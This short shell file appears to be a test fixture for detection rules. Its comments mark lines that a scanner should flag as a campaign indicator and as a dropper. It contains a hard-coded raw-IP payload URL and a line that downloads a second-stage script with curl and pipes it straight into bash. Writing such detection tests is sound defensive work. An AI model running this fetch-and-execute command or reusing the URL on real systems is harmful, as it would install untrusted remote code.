#!/bin/sh
# ruleid: clawhavoc-campaign-indicator
URL="http://91.92.242.30/q0c7ew2ro8l2cfqp"
# ruleid: dropper-raw-ip-pipe-shell
bash <(curl -fsSL http://203.0.113.9/stage2)
